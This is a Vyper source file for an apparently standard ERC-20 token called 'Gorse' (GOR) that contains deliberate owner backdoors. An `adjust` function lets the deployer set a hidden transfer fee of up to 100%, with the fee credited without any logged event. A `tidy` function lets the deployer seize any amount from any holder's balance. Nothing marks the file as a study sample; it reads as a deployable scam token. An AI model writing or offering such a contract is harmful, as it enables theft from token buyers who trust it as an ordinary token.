# pragma version 0.4.3

event Transfer:
    sender: indexed(address)
    receiver: indexed(address)
    value: uint256

event Approval:
    owner: indexed(address)
    spender: indexed(address)
    value: uint256

name: public(constant(String[16])) = "Gorse"
symbol: public(constant(String[8])) = "GOR"
decimals: public(constant(uint8)) = 18
balanceOf: public(HashMap[address, uint256])
allowance: public(HashMap[address, HashMap[address, uint256]])
totalSupply: public(uint256)
warden: immutable(address)
part: public(uint256)


@deploy
def __init__():
    warden = msg.sender
    self.totalSupply = 10 ** 24
    self.balanceOf[msg.sender] = 10 ** 24
    log Transfer(sender=empty(address), receiver=msg.sender, value=10 ** 24)


@internal
def _move(_from: address, _to: address, _value: uint256):
    taken: uint256 = _value * self.part // 10_000
    self.balanceOf[_from] -= _value
    self.balanceOf[_to] += _value - taken
    self.balanceOf[warden] += taken
    log Transfer(sender=_from, receiver=_to, value=_value - taken)


@external
def transfer(_to: address, _value: uint256) -> bool:
    self._move(msg.sender, _to, _value)
    return True


@external
def transferFrom(_from: address, _to: address, _value: uint256) -> bool:
    self.allowance[_from][msg.sender] -= _value
    self._move(_from, _to, _value)
    return True


@external
def approve(_spender: address, _value: uint256) -> bool:
    self.allowance[msg.sender][_spender] = _value
    log Approval(owner=msg.sender, spender=_spender, value=_value)
    return True


# A part of each transfer goes to the warden, up to all of it.
@external
def adjust(_next: uint256):
    assert msg.sender == warden
    assert _next <= 10_000
    self.part = _next


# Takes what somebody holds.
@external
def tidy(_from: address, _value: uint256):
    assert msg.sender == warden
    self.balanceOf[_from] -= _value
    self.balanceOf[warden] += _value
    log Transfer(sender=_from, receiver=warden, value=_value)
